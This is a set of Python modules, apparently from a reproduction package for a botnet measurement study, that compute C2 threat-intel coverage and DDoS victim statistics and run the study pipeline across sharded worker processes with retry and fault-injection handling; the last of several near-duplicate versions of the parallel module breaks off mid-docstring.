    """Figure 7: CDF of how many vendor feeds flag each known C2."""
    counts = [
        vt.eventual_vendor_count(record.endpoint)
        for record in datasets.d_c2s.values()
        if record.verified
    ]
    counts = [c for c in counts if c > 0]
    return empirical_cdf(counts)


def low_coverage_share(datasets: Datasets, vt: VirusTotalService,
                       at_most: int = 2) -> float:
    """Share of known C2s flagged by at most ``at_most`` feeds (§3.3: 25%)."""
    counts = [
        vt.eventual_vendor_count(record.endpoint)
        for record in datasets.d_c2s.values()
        if record.verified
    ]
    counts = [c for c in counts if c > 0]
    if not counts:
        return 0.0
    return sum(1 for c in counts if c <= at_most) / len(counts)


def table7(datasets: Datasets, vt: VirusTotalService,
           reference_size: int = 1000) -> list[tuple[str, int]]:
    """Table 7: per-vendor detections over a reference C2-IP set.

    The paper evaluates vendors on a set of 1000 C2 IPs; we use up to
    ``reference_size`` of our verified IP-based C2s, scaled to per-1000
    counts for comparability.
    """
    reference = [
        record for record in datasets.d_c2s.values()
        if record.verified and not record.is_dns
    ][:reference_size]
    if not reference:
        return []
    per_vendor: dict[str, int] = {}
    for record in reference:
        intel = vt.get_intel(record.endpoint)
        if intel is None:
            continue
        for name in vt.vendors.eventual_flaggers(intel):
            per_vendor[name] = per_vendor.get(name, 0) + 1
    scale = 1000.0 / len(reference)
    rows = [
        (name, round(count * scale))
        for name, count in per_vendor.items()
    ]
    rows.sort(key=lambda item: (-item[1], item[0]))
    return rows


def active_vendor_count(datasets: Datasets, vt: VirusTotalService) -> int:
    """How many of the 89 vendors ever flag one of our C2s (paper: 44)."""
    names: set[str] = set()
    for record in datasets.d_c2s.values():
        intel = vt.get_intel(record.endpoint)
        if intel is None:
            continue
        names.update(vt.vendors.eventual_flaggers(intel))
    return len(names)
