"""DDoS attack analyses (section 5, Q9-Q11).

Feeds Figure 10 (target protocol distribution), Figure 11 (attack type ×
family) and Figure 12 (victim AS type / country), plus the in-text
claims: attack-launching C2 lifespans, issuing-country concentration, and
double-attacked targets.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..analysis.stats import share_by
from ..intel.asdb import AsDatabase
from ..netsim.addresses import ip_to_int, is_ip_literal
from .datasets import Datasets, DdosRecord


def attacks(datasets: Datasets) -> list[DdosRecord]:
    return list(datasets.d_ddos)


def protocol_distribution(datasets: Datasets) -> dict[str, float]:
    """Figure 10: share of attacks per target protocol class."""
    return share_by(attacks(datasets), lambda record: record.target_protocol)


def type_by_family(datasets: Datasets) -> dict[tuple[str, str], int]:
    """Figure 11: counts per (family, attack type).

    The family is taken from the C2 record's label set via the command's
    decoding profile (the paper attributes by profile too).
    """
    counts: dict[tuple[str, str], int] = {}
    for record in attacks(datasets):
        key = (record.family, record.attack_type)
        counts[key] = counts.get(key, 0) + 1
    return counts


def attacks_per_family(datasets: Datasets) -> dict[str, int]:
    counts: dict[str, int] = {}
    for record in attacks(datasets):
        counts[record.family] = counts.get(record.family, 0) + 1
    return counts


def port_share(datasets: Datasets, port: int) -> float:
    """Share of attacks targeting one port (paper: 21% port 80, 7% 443)."""
    records = attacks(datasets)
    if not records:
        return 0.0
    return sum(1 for r in records if r.command.target_port == port) / len(records)


@dataclass
class VictimProfile:
    """One attacked target with its AS attribution (Figure 12)."""

    address: int
    kind: str         # "isp" | "hosting" | "business" | "unknown"
    country: str
    specialization: str
    attack_types: set[str]


def victim_profiles(datasets: Datasets, asdb: AsDatabase) -> list[VictimProfile]:
    """Join attack targets against the AS database."""
    by_target: dict[int, VictimProfile] = {}
    for record in attacks(datasets):
        target = record.command.target_ip
        profile = by_target.get(target)
        if profile is None:
            owner = asdb.lookup(target)
            profile = VictimProfile(
                address=target,
                kind=owner.kind if owner else "unknown",
                country=owner.country if owner else "??",
                specialization=owner.specialization if owner else "",
                attack_types=set(),
            )
            by_target[target] = profile
        profile.attack_types.add(record.attack_type)
    return list(by_target.values())


def victim_kind_shares(datasets: Datasets, asdb: AsDatabase) -> dict[str, float]:
    """Figure 12 aggregate: victim AS-type shares (45% ISP, 36% hosting)."""
    profiles = victim_profiles(datasets, asdb)
    return share_by(profiles, lambda p: p.kind)


def gaming_share(datasets: Datasets, asdb: AsDatabase) -> float:
    """Share of victim ASes specialized in gaming (paper: 18%)."""
    profiles = victim_profiles(datasets, asdb)
    if not profiles:
        return 0.0
    return sum(1 for p in profiles if p.specialization == "gaming") / len(profiles)


def double_attack_share(datasets: Datasets, asdb: AsDatabase) -> float:
    """Targets hit by two different attack types *in a single session*.

    Section 5.2: "25% of the targeted IP addresses are attacked using two
    different attack types in a single session."  A session is one bot's
    two-hour observation window on one C2, approximated here as commands
    from the same C2 within the same study day.
    """
    sessions: dict[tuple[str, int], dict[int, set[str]]] = {}
    targets: set[int] = set()
    doubled: set[int] = set()
    for record in attacks(datasets):
        day = int(record.when // 86400.0)
        per_target = sessions.setdefault((record.c2_endpoint, day), {})
        types = per_target.setdefault(record.command.target_ip, set())
        types.add(record.attack_type)
        targets.add(record.command.target_ip)
        if len(types) >= 2:
            doubled.add(record.command.target_ip)
    if not targets:
        return 0.0
    return len(doubled) / len(targets)


def issuing_c2_countries(datasets: Datasets, asdb: AsDatabase) -> dict[str, int]:
    """Countries of the attack-issuing C2 servers (§5: US+NL+CZ = 80%)."""
    counts: dict[str, int] = {}
    for record in attacks(datasets):
        endpoint = record.c2_endpoint
        if is_ip_literal(endpoint):
            owner = asdb.lookup(ip_to_int(endpoint))
            country = owner.country if owner else "??"
        else:
            country = "??"
        counts[country] = counts.get(country, 0) + 1
    return counts


def attack_country_concentration(
    datasets: Datasets, asdb: AsDatabase, countries: tuple[str, ...] = ("US", "NL", "CZ")
) -> float:
    """Share of attacks issued from the given countries."""
    records = attacks(datasets)
    if not records:
        return 0.0
    count = 0
    for record in records:
        endpoint = record.c2_endpoint
        if not is_ip_literal(endpoint):
            continue
        owner = asdb.lookup(ip_to_int(endpoint))
        if owner is not None and owner.country in countries:
            count += 1
    return count / len(records)


def unflagged_attack_c2s(datasets: Datasets) -> list[str]:
    """Attack-issuing C2s not flagged by TI on launch day (paper saw 2)."""
    endpoints = {record.c2_endpoint for record in attacks(datasets)}
    unflagged = []
    for endpoint in endpoints:
        record = datasets.d_c2s.get(endpoint)
        if record is not None and not record.vt_malicious_day0:
            unflagged.append(endpoint)
    return sorted(unflagged)
