"""Sharded parallel execution of the daily pipeline (§2.2's fleet).

MalNet ran four CnCHunter sandboxes side by side, each analyzing its own
slice of the day's binaries.  This module reproduces that topology with
real processes: samples are partitioned by sha256
(:func:`~repro.determinism.shard_of`), each worker runs the full
:class:`~repro.core.pipeline.MalNet` pipeline over its shard against its
own copy of the world, and the parent merges the shard outputs with
:meth:`Datasets.merge <repro.core.datasets.Datasets.merge>`.

The hard invariant: **the merged parallel output is byte-identical to the
serial run** on the same ``(seed, scale)``.  Three properties carry it:

* every behavioral coin in the simulation is hash-derived, and the two
  shared RNG streams (sandbox + virtual internet) are reseeded per sample
  from ``(world seed, sha256)`` (:meth:`MalNet._reseed_for`), so a
  binary's analysis is a pure function of the sample;
* sharding by sha256 keeps deduplication shard-local: every occurrence of
  a hash lands in the same shard, so no worker needs another's seen-set;
* records carry ``origin`` tuples fixing their global creation order,
  which lets the merge reconstruct the serial insertion order exactly.

Workers are spawned with the ``fork`` start method where available so the
already-generated world is inherited copy-on-write instead of being
rebuilt; each worker process runs exactly one shard task
(``maxtasksperchild=1``) so no task sees a world mutated by a previous
one.  Without ``fork`` the worker regenerates the world from
``(seed, scale)`` — same bytes either way, world generation is
deterministic.
"""

from __future__ import annotations

import dataclasses
import multiprocessing

from ..obs import MetricsRegistry, NullEventLog, NullTracer, Telemetry
from ..world.generator import World
from .datasets import Datasets
from .pipeline import MalNet, PipelineConfig

__all__ = ["ShardedStudyRunner", "ShardResult", "fold_counters"]

#: world snapshot inherited by fork()ed workers; ``None`` under spawn
_FORK_WORLD: World | None = None


@dataclasses.dataclass
class ShardResult:
    """One worker's output: its shard's datasets plus metric totals."""

    shard_index: int
    datasets: Datasets
    counters: dict


def _run_shard(task) -> ShardResult:
    """Worker entry point: run the pipeline over one shard.

    Runs in a child process.  Uses the fork-inherited world snapshot when
    there is one, otherwise regenerates it from ``(seed, scale)``.  The
    worker keeps metrics (counter totals survive the merge) but drops
    tracing and events — those stay per-process.
    """
    seed, scale, config = task
    world = _FORK_WORLD
    if world is None:
        from ..world import generate_world

        world = generate_world(seed=seed, scale=scale)
    telemetry = Telemetry(metrics=MetricsRegistry(), tracer=NullTracer(),
                          events=NullEventLog())
    malnet = MalNet(world, config, telemetry=telemetry)
    malnet.run()
    return ShardResult(
        shard_index=config.shard_index,
        datasets=malnet.datasets,
        counters=telemetry.metrics.snapshot(),
    )


def fold_counters(metrics, snapshot: dict, exclude: tuple = ()) -> None:
    """Add a worker's counter totals into a parent registry.

    Only counters are summable across processes; gauges and histograms
    from worker snapshots are dropped (the parent's own instruments keep
    covering those).  ``exclude`` names counters whose per-shard values
    must not be summed — creation counters for records deduplicated
    *across* shards, which the merge re-counts from the merged result.
    """
    for name, family in snapshot.items():
        if family["type"] != "counter" or name in exclude:
            continue
        dest = metrics.counter(name, family["help"],
                               tuple(family["labelnames"]))
        for series in family["series"]:
            if series["value"]:
                dest.labels(**series["labels"]).inc(series["value"])


class ShardedStudyRunner:
    """Runs the daily pipeline across N sha256-sharded worker processes.

    Usage is two-phase so the parent can do useful work (the probing
    campaign) while the pool grinds through the shards::

        runner = ShardedStudyRunner(world, workers=4).start()
        ...                       # parent-side work overlaps the pool
        shards = runner.join()    # [ShardResult, ...] in shard order
    """

    def __init__(self, world: World, workers: int,
                 config: PipelineConfig | None = None):
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if world.seed is None:
            raise ValueError(
                "sharded execution needs a seeded world: workers derive "
                "their randomness from (world.seed, sha256)")
        self.world = world
        self.workers = workers
        self.config = config or PipelineConfig()
        self._pool = None
        self._result = None

    def _shard_configs(self) -> list[PipelineConfig]:
        return [
            dataclasses.replace(self.config, shard_index=index,
                                shard_count=self.workers)
            for index in range(self.workers)
        ]

    def start(self) -> "ShardedStudyRunner":
        """Fork the pool and dispatch one task per shard (non-blocking)."""
        global _FORK_WORLD
        if self._pool is not None:
            raise RuntimeError("runner already started")
        try:
            context = multiprocessing.get_context("fork")
            _FORK_WORLD = self.world
        except ValueError:  # pragma: no cover - non-fork platforms
            context = multiprocessing.get_context()
        tasks = [(self.world.seed, self.world.scale, config)
                 for config in self._shard_configs()]
        self._pool = context.Pool(processes=self.workers,
                                  maxtasksperchild=1)
        self._result = self._pool.map_async(_run_shard, tasks, chunksize=1)
        self._pool.close()
        return self

    def join(self) -> list[ShardResult]:
        """Wait for every shard; returns results ordered by shard index."""
        global _FORK_WORLD
        if self._result is None:
            raise RuntimeError("runner not started")
        try:
            shards = self._result.get()
        finally:
            self._pool.join()
            self._pool = None
            self._result = None
            _FORK_WORLD = None
        return sorted(shards, key=lambda shard: shard.shard_index)

    def run(self) -> list[ShardResult]:
        """Blocking convenience: :meth:`start` then :meth:`join`."""
        return self.start().join()
