"""Sharded parallel execution of the daily pipeline (§2.2's fleet).

MalNet ran four CnCHunter sandboxes side by side, each analyzing its own
slice of the day's binaries.  This module reproduces that topology with
real executors: samples are partitioned by sha256
(:func:`~repro.determinism.shard_of`) into *units*, each executor runs
the full :class:`~repro.core.pipeline.MalNet` pipeline over its unit
against its own copy of the world, and the parent merges the unit
outputs with :meth:`Datasets.merge <repro.core.datasets.Datasets.merge>`.

The hard invariant: **the merged parallel output is byte-identical to the
serial run** on the same ``(seed, scale)``.  Three properties carry it:

* every behavioral coin in the simulation is hash-derived, and the two
  shared RNG streams (sandbox + virtual internet) are reseeded per sample
  from ``(world seed, sha256)`` (:meth:`MalNet._reseed_for`), so a
  binary's analysis is a pure function of the sample;
* sharding by sha256 keeps deduplication unit-local: every occurrence of
  a hash lands in the same unit, so no executor needs another's seen-set;
* records carry ``origin`` tuples fixing their global creation order,
  which lets the merge reconstruct the serial insertion order exactly.

*Where* the units execute is a transport's business
(:mod:`repro.dist.transport`): ``transport="local"`` is the historical
``multiprocessing.Pool`` (fork-inherited world snapshot,
``maxtasksperchild=1``), ``transport="socket"`` dispatches over TCP to
``repro worker`` daemons with cache-aware placement and work stealing.
Either way the unit partition is by sha256, so any placement merges to
the same digest.

**Failure handling**: a real fleet loses sandboxes.  :meth:`join` drains
the wave with a bounded **per-wave** deadline (``shard_timeout`` — every
re-dispatch wave gets a fresh budget, so worst-case wall time is
``shard_timeout × (1 + max_redispatch)``), treats a missing or raised
result as a unit failure, tears the wave down, and re-dispatches only
the failed units, up to ``max_redispatch`` extra waves.  Local failure
text distinguishes a *crashed* worker (exited nonzero; the pool silently
replaced it and lost its task) from a *hung* one (still alive at the
deadline).  Re-dispatched local workers regenerate the world from
``(seed, scale)`` instead of trusting the fork snapshot: by join time
the parent's probing campaign has mutated the parent world, so the
snapshot is only valid for the first wave.  Because each unit's output
is a pure function of ``(seed, scale, config)``, a retried unit produces
the same bytes it would have produced on the first try.  Units that keep
failing land in :attr:`ShardedStudyRunner.failed_shards` so a partial
merge is reported, never silent.
"""

from __future__ import annotations

import dataclasses
import os
import time

from ..obs import EventLog, MetricsRegistry, NullEventLog, NullTracer, \
    Telemetry, Tracer
from ..obs.merge import fold_counters  # re-export: the merge logic moved
from ..world.generator import World
from .datasets import Datasets
from .pipeline import MalNet, PipelineConfig

__all__ = ["ShardedStudyRunner", "ShardResult", "execute_shard",
           "fold_counters"]

#: world snapshot inherited by fork()ed workers; ``None`` under spawn and
#: for re-dispatch waves (the parent world has been mutated by then)
_FORK_WORLD: World | None = None

#: exit code of a chaos-crashed worker (os._exit, so the parent pool sees
#: a dead process, not an exception — the lost-task failure mode)
_CRASH_EXIT_CODE = 170


@dataclasses.dataclass
class ShardResult:
    """One executor's output: its unit's datasets plus telemetry snapshots.

    ``counters`` is the executor's full metrics snapshot (counters *and*
    histograms — the name predates the histogram merge); ``spans`` and
    ``events`` are portable tracer/event-log snapshots, populated only
    when the parent ran with telemetry enabled.  ``wall_seconds`` is the
    executor-measured wall time of the whole unit task, ``attempt`` the
    dispatch wave that produced this result (0 = first try), and
    ``worker`` the socket worker that ran it (``None`` on the local
    transport).
    """

    shard_index: int
    datasets: Datasets
    counters: dict
    spans: dict | None = None
    events: dict | None = None
    wall_seconds: float = 0.0
    attempt: int = 0
    worker: str | None = None


def execute_shard(seed: int, scale, config: PipelineConfig, attempt: int,
                  telemetry_on: bool, *, world: World | None = None,
                  chaos: str = "exit") -> ShardResult:
    """Run the pipeline over one sha256 unit — the shared executor body
    of the pool worker and the ``repro worker`` daemon.

    ``world`` is an already-generated private copy (fork snapshot, or a
    worker's warm-cache deepcopy); ``None`` regenerates from
    ``(seed, scale)`` — same bytes either way, world generation is
    deterministic.  ``chaos`` picks how a fault plan's worker-crash draw
    dies: ``"exit"`` is the pool's ``os._exit`` (no exception, task
    silently lost), ``"raise"`` raises
    :class:`~repro.netsim.faults.WorkerCrash` so a daemon can drop the
    coordinator connection instead of killing itself.

    The executor always keeps metrics (counter/histogram totals survive
    the merge); with ``telemetry_on`` it also runs a real tracer and
    event log whose snapshots the parent re-roots under a ``shard[i]``
    span (see :mod:`repro.obs.merge`) — parallel runs lose no spans or
    events.
    """
    started = time.perf_counter()
    plan = config.faults
    if plan is not None and plan.enabled:
        from ..netsim.faults import FaultInjector, WorkerCrash

        injector = FaultInjector(plan, seed)
        if injector.worker_crashes(config.shard_index, attempt):
            if chaos == "exit":
                # die like a sandbox host dies: no exception, no result —
                # the parent only notices the shard never reports back
                os._exit(_CRASH_EXIT_CODE)
            raise WorkerCrash(
                f"chaos crash: unit {config.shard_index} attempt {attempt}")
        if injector.worker_hangs(config.shard_index, attempt):
            time.sleep(plan.hang_seconds)
    if world is None:
        from ..world import generate_world

        world = generate_world(seed=seed, scale=scale)
    if telemetry_on:
        telemetry = Telemetry(metrics=MetricsRegistry(), tracer=Tracer(),
                              events=EventLog())
    else:
        telemetry = Telemetry(metrics=MetricsRegistry(), tracer=NullTracer(),
                              events=NullEventLog())
    malnet = MalNet(world, config, telemetry=telemetry)
    malnet.run()
    return ShardResult(
        shard_index=config.shard_index,
        datasets=malnet.datasets,
        counters=telemetry.metrics.snapshot(),
        spans=telemetry.tracer.snapshot() if telemetry_on else None,
        events=telemetry.events.snapshot() if telemetry_on else None,
        wall_seconds=time.perf_counter() - started,
        attempt=attempt,
    )


def _run_shard(task) -> ShardResult:
    """Pool worker entry point: run the pipeline over one unit.

    Runs in a child process.  Uses the fork-inherited world snapshot
    when there is one and this is the first attempt, otherwise
    :func:`execute_shard` regenerates the world from ``(seed, scale)``.
    """
    seed, scale, config, attempt, telemetry_on = task
    world = _FORK_WORLD if attempt == 0 else None
    return execute_shard(seed, scale, config, attempt, telemetry_on,
                         world=world, chaos="exit")


class ShardedStudyRunner:
    """Runs the daily pipeline across sha256-partitioned executors.

    Usage is two-phase so the parent can do useful work (the probing
    campaign) while the executors grind through the units::

        runner = ShardedStudyRunner(world, workers=4).start()
        ...                       # parent-side work overlaps execution
        shards = runner.join()    # [ShardResult, ...] in unit order

    ``transport="local"`` (default) keeps today's in-host pool with one
    unit per worker, zero behavior change.  ``transport="socket"``
    dispatches to remote ``repro worker`` daemons at ``peers``
    (``["host:port", ...]``), cutting the corpus into ``unit_count``
    fine-grained units (default 4× the fleet size) so the coordinator
    can place cache-aware and steal from stragglers.  ``unit_count``
    also works locally (useful for testing the fine-grained plan); any
    unit count merges to the same digest.

    After :meth:`join`, :attr:`failed_shards` lists the unit indexes
    that never produced a result (crashed/hung/raised through every
    re-dispatch wave) and :attr:`failures` keeps the last error text per
    failed unit; :attr:`transport_stats` carries the transport's
    placement/steal/wall accounting for the manifest.  Callers must
    treat a non-empty :attr:`failed_shards` as a partial merge.

    ``shard_timeout`` is a **per-wave** deadline: each call into the
    transport's collect gets a fresh budget (see the module docstring).
    """

    def __init__(self, world: World, workers: int,
                 config: PipelineConfig | None = None,
                 shard_timeout: float | None = 600.0,
                 max_redispatch: int = 2,
                 telemetry_enabled: bool = False,
                 transport: str = "local",
                 peers: list[str] | None = None,
                 unit_count: int | None = None,
                 transport_options: dict | None = None):
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if world.seed is None:
            raise ValueError(
                "sharded execution needs a seeded world: workers derive "
                "their randomness from (world.seed, sha256)")
        if transport not in ("local", "socket"):
            raise ValueError(f"unknown transport {transport!r} "
                             "(expected 'local' or 'socket')")
        if transport == "socket" and not peers:
            raise ValueError("transport='socket' needs peers "
                             "(['host:port', ...])")
        if transport == "local" and peers:
            raise ValueError("peers only apply to transport='socket'")
        if unit_count is not None and unit_count < 1:
            raise ValueError("unit_count must be >= 1")
        from ..dist.plan import TaskSpec, default_unit_count
        from ..dist.transport import LocalTransport, SocketTransport

        self.world = world
        self.workers = workers
        self.config = config or PipelineConfig()
        #: when True, executors run real tracer/event-log instruments and
        #: ship their snapshots back for the cross-shard merge
        self.telemetry_enabled = telemetry_enabled
        #: wall-clock seconds granted to each dispatch wave in
        #: :meth:`join` before its missing units are declared failed
        #: (``None``: wait forever)
        self.shard_timeout = shard_timeout
        #: extra dispatch waves granted to failed units
        self.max_redispatch = max_redispatch
        self.transport_name = transport
        self.peers = list(peers or [])
        #: sha256-partition granularity: how many units the corpus is
        #: cut into (== workers on the plain local path)
        if transport == "socket":
            self.shard_count = unit_count or default_unit_count(workers)
        else:
            self.shard_count = unit_count or workers
        #: unit indexes with no result after all waves (set by ``join``)
        self.failed_shards: list[int] = []
        #: last error text per failed unit index
        self.failures: dict[int, str] = {}
        #: total unit re-dispatches performed (set by ``join``; includes
        #: transport-internal re-queues after lost workers)
        self.redispatches = 0
        #: transport placement/steal/wall accounting (set by ``join``)
        self.transport_stats: dict = {}
        spec = TaskSpec(seed=world.seed, scale=world.scale,
                        config=self.config, shard_count=self.shard_count,
                        telemetry=telemetry_enabled)
        options = dict(transport_options or {})
        if transport == "socket":
            self._transport = SocketTransport(
                spec, self.peers, shard_timeout=shard_timeout, **options)
        else:
            self._transport = LocalTransport(
                spec, workers=workers, shard_timeout=shard_timeout,
                fork_world=world, **options)
        self._started = False
        self._drained = False

    def _shard_config(self, index: int) -> PipelineConfig:
        return dataclasses.replace(self.config, shard_index=index,
                                   shard_count=self.shard_count)

    def start(self) -> "ShardedStudyRunner":
        """Dispatch one task per unit (non-blocking)."""
        if self._started:
            raise RuntimeError("runner already started")
        self._started = True
        self._transport.start_wave(range(self.shard_count), attempt=0)
        return self

    def _collect(self, pending: dict, results: dict) -> dict[int, str]:
        """Back-compat shim over the local transport's wave harvest."""
        return self._transport.collect_pending(pending, results)

    def join(self) -> list[ShardResult]:
        """Wait for every unit; returns results ordered by unit index.

        Failed units are re-dispatched (fresh executors, regenerated
        world) up to ``max_redispatch`` times — each wave under a fresh
        ``shard_timeout`` budget; whatever still fails is recorded in
        :attr:`failed_shards` / :attr:`failures` and simply absent from
        the returned list.
        """
        if not self._started:
            raise RuntimeError("runner not started")
        if self._drained:
            raise RuntimeError("runner already joined")
        self._drained = True
        transport = self._transport
        results: dict[int, ShardResult] = {}
        attempt = 0
        try:
            while True:
                failures = transport.collect_wave(results)
                if not failures:
                    transport.finish()
                    break
                transport.abort_wave()
                self.failures.update(failures)
                attempt += 1
                if attempt > self.max_redispatch:
                    self.failed_shards = sorted(failures)
                    break
                self.redispatches += len(failures)
                transport.start_wave(sorted(failures), attempt)
        finally:
            transport.close()
            self.redispatches += transport.redispatches
            self.transport_stats = transport.stats()
        return [results[index] for index in sorted(results)]

    def run(self) -> list[ShardResult]:
        """Blocking convenience: :meth:`start` then :meth:`join`."""
        return self.start().join()
