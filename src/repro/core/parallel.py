"""Sharded parallel execution of the daily pipeline (§2.2's fleet).

MalNet ran four CnCHunter sandboxes side by side, each analyzing its own
slice of the day's binaries.  This module reproduces that topology with
real processes: samples are partitioned by sha256
(:func:`~repro.determinism.shard_of`), each worker runs the full
:class:`~repro.core.pipeline.MalNet` pipeline over its shard against its
own copy of the world, and the parent merges the shard outputs with
:meth:`Datasets.merge <repro.core.datasets.Datasets.merge>`.

The hard invariant: **the merged parallel output is byte-identical to the
serial run** on the same ``(seed, scale)``.  Three properties carry it:

* every behavioral coin in the simulation is hash-derived, and the two
  shared RNG streams (sandbox + virtual internet) are reseeded per sample
  from ``(world seed, sha256)`` (:meth:`MalNet._reseed_for`), so a
  binary's analysis is a pure function of the sample;
* sharding by sha256 keeps deduplication shard-local: every occurrence of
  a hash lands in the same shard, so no worker needs another's seen-set;
* records carry ``origin`` tuples fixing their global creation order,
  which lets the merge reconstruct the serial insertion order exactly.

Workers are spawned with the ``fork`` start method where available so the
already-generated world is inherited copy-on-write instead of being
rebuilt; each worker process runs exactly one shard task
(``maxtasksperchild=1``) so no task sees a world mutated by a previous
one.  Without ``fork`` the worker regenerates the world from
``(seed, scale)`` — same bytes either way, world generation is
deterministic.

**Failure handling**: a real fleet loses sandboxes.  :meth:`join` waits
per shard with a bounded timeout, treats a missing result (worker died —
``multiprocessing.Pool`` silently loses the in-flight task of a killed
worker) or a raised one as a shard failure, terminates the wave's pool,
and re-dispatches only the failed shards in a fresh pool, up to
``max_redispatch`` extra waves.  Re-dispatched workers regenerate the
world from ``(seed, scale)`` instead of trusting the fork snapshot: by
join time the parent's probing campaign has mutated the parent world, so
the snapshot is only valid for the first wave.  Because each shard's
output is a pure function of ``(seed, scale, config)``, a retried shard
produces the same bytes it would have produced on the first try.  Shards
that keep failing land in :attr:`ShardedStudyRunner.failed_shards` so a
partial merge is reported, never silent.
"""

from __future__ import annotations

import dataclasses
import multiprocessing
import os
import time

from ..obs import EventLog, MetricsRegistry, NullEventLog, NullTracer, \
    Telemetry, Tracer
from ..obs.merge import fold_counters  # re-export: the merge logic moved
from ..world.generator import World
from .datasets import Datasets
from .pipeline import MalNet, PipelineConfig

__all__ = ["ShardedStudyRunner", "ShardResult", "fold_counters"]

#: world snapshot inherited by fork()ed workers; ``None`` under spawn and
#: for re-dispatch waves (the parent world has been mutated by then)
_FORK_WORLD: World | None = None

#: exit code of a chaos-crashed worker (os._exit, so the parent pool sees
#: a dead process, not an exception — the lost-task failure mode)
_CRASH_EXIT_CODE = 170


@dataclasses.dataclass
class ShardResult:
    """One worker's output: its shard's datasets plus telemetry snapshots.

    ``counters`` is the worker's full metrics snapshot (counters *and*
    histograms — the name predates the histogram merge); ``spans`` and
    ``events`` are portable tracer/event-log snapshots, populated only
    when the parent ran with telemetry enabled.  ``wall_seconds`` is the
    worker-measured wall time of the whole shard task and ``attempt`` the
    dispatch wave that produced this result (0 = first try).
    """

    shard_index: int
    datasets: Datasets
    counters: dict
    spans: dict | None = None
    events: dict | None = None
    wall_seconds: float = 0.0
    attempt: int = 0


def _run_shard(task) -> ShardResult:
    """Worker entry point: run the pipeline over one shard.

    Runs in a child process.  Uses the fork-inherited world snapshot when
    there is one and this is the first attempt, otherwise regenerates the
    world from ``(seed, scale)``.  The worker always keeps metrics
    (counter/histogram totals survive the merge); with ``telemetry_on``
    it also runs a real tracer and event log whose snapshots the parent
    re-roots under a ``shard[i]`` span (see :mod:`repro.obs.merge`) —
    parallel runs lose no spans or events.
    """
    seed, scale, config, attempt, telemetry_on = task
    started = time.perf_counter()
    plan = config.faults
    if plan is not None and plan.enabled:
        from ..netsim.faults import FaultInjector

        injector = FaultInjector(plan, seed)
        if injector.worker_crashes(config.shard_index, attempt):
            # die like a sandbox host dies: no exception, no result —
            # the parent only notices the shard never reports back
            os._exit(_CRASH_EXIT_CODE)
        if injector.worker_hangs(config.shard_index, attempt):
            time.sleep(plan.hang_seconds)
    world = _FORK_WORLD
    if world is None or attempt > 0:
        from ..world import generate_world

        world = generate_world(seed=seed, scale=scale)
    if telemetry_on:
        telemetry = Telemetry(metrics=MetricsRegistry(), tracer=Tracer(),
                              events=EventLog())
    else:
        telemetry = Telemetry(metrics=MetricsRegistry(), tracer=NullTracer(),
                              events=NullEventLog())
    malnet = MalNet(world, config, telemetry=telemetry)
    malnet.run()
    return ShardResult(
        shard_index=config.shard_index,
        datasets=malnet.datasets,
        counters=telemetry.metrics.snapshot(),
        spans=telemetry.tracer.snapshot() if telemetry_on else None,
        events=telemetry.events.snapshot() if telemetry_on else None,
        wall_seconds=time.perf_counter() - started,
        attempt=attempt,
    )


class ShardedStudyRunner:
    """Runs the daily pipeline across N sha256-sharded worker processes.

    Usage is two-phase so the parent can do useful work (the probing
    campaign) while the pool grinds through the shards::

        runner = ShardedStudyRunner(world, workers=4).start()
        ...                       # parent-side work overlaps the pool
        shards = runner.join()    # [ShardResult, ...] in shard order

    After :meth:`join`, :attr:`failed_shards` lists the shard indexes
    that never produced a result (crashed/hung/raised through every
    re-dispatch wave) and :attr:`failures` keeps the last error text per
    failed shard.  Callers must treat a non-empty :attr:`failed_shards`
    as a partial merge.
    """

    def __init__(self, world: World, workers: int,
                 config: PipelineConfig | None = None,
                 shard_timeout: float | None = 600.0,
                 max_redispatch: int = 2,
                 telemetry_enabled: bool = False):
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if world.seed is None:
            raise ValueError(
                "sharded execution needs a seeded world: workers derive "
                "their randomness from (world.seed, sha256)")
        self.world = world
        self.workers = workers
        self.config = config or PipelineConfig()
        #: when True, workers run real tracer/event-log instruments and
        #: ship their snapshots back for the cross-shard merge
        self.telemetry_enabled = telemetry_enabled
        #: wall-clock seconds to wait for each shard in :meth:`join`
        #: before declaring its worker lost (``None``: wait forever)
        self.shard_timeout = shard_timeout
        #: extra dispatch waves granted to failed shards
        self.max_redispatch = max_redispatch
        #: shard indexes with no result after all waves (set by ``join``)
        self.failed_shards: list[int] = []
        #: last error text per failed shard index
        self.failures: dict[int, str] = {}
        #: total shard re-dispatches performed (set by ``join``)
        self.redispatches = 0
        self._context = None
        self._pool = None
        self._pending = None

    def _shard_config(self, index: int) -> PipelineConfig:
        return dataclasses.replace(self.config, shard_index=index,
                                   shard_count=self.workers)

    def _dispatch(self, pool, indexes, attempt: int) -> dict:
        """apply_async one task per shard; returns index -> AsyncResult."""
        return {
            index: pool.apply_async(
                _run_shard,
                ((self.world.seed, self.world.scale,
                  self._shard_config(index), attempt,
                  self.telemetry_enabled),))
            for index in indexes
        }

    def start(self) -> "ShardedStudyRunner":
        """Fork the pool and dispatch one task per shard (non-blocking)."""
        global _FORK_WORLD
        if self._pool is not None:
            raise RuntimeError("runner already started")
        try:
            self._context = multiprocessing.get_context("fork")
            _FORK_WORLD = self.world
        except ValueError:  # pragma: no cover - non-fork platforms
            self._context = multiprocessing.get_context()
        self._pool = self._context.Pool(processes=self.workers,
                                        maxtasksperchild=1)
        self._pending = self._dispatch(self._pool, range(self.workers),
                                       attempt=0)
        self._pool.close()
        return self

    def _collect(self, pending: dict, results: dict) -> dict[int, str]:
        """Harvest one wave; returns failures as index -> error text.

        The timeout budget is shared by the wave: shards run
        concurrently, so a healthy wave drains in one shard's runtime,
        and a crashed worker (whose task ``Pool`` silently loses — no
        exception ever surfaces) costs one ``shard_timeout``, not one
        per remaining shard.
        """
        deadline = (None if self.shard_timeout is None
                    else time.monotonic() + self.shard_timeout)
        failures: dict[int, str] = {}
        for index in sorted(pending):
            try:
                if deadline is None:
                    results[index] = pending[index].get()
                else:
                    results[index] = pending[index].get(
                        max(0.0, deadline - time.monotonic()))
            except multiprocessing.TimeoutError:
                failures[index] = (
                    f"no result within {self.shard_timeout}s "
                    "(worker crashed or hung)")
            except Exception as exc:  # worker raised; propagated by get()
                failures[index] = f"{type(exc).__name__}: {exc}"
        return failures

    def join(self) -> list[ShardResult]:
        """Wait for every shard; returns results ordered by shard index.

        Failed shards are re-dispatched (fresh pool, regenerated world)
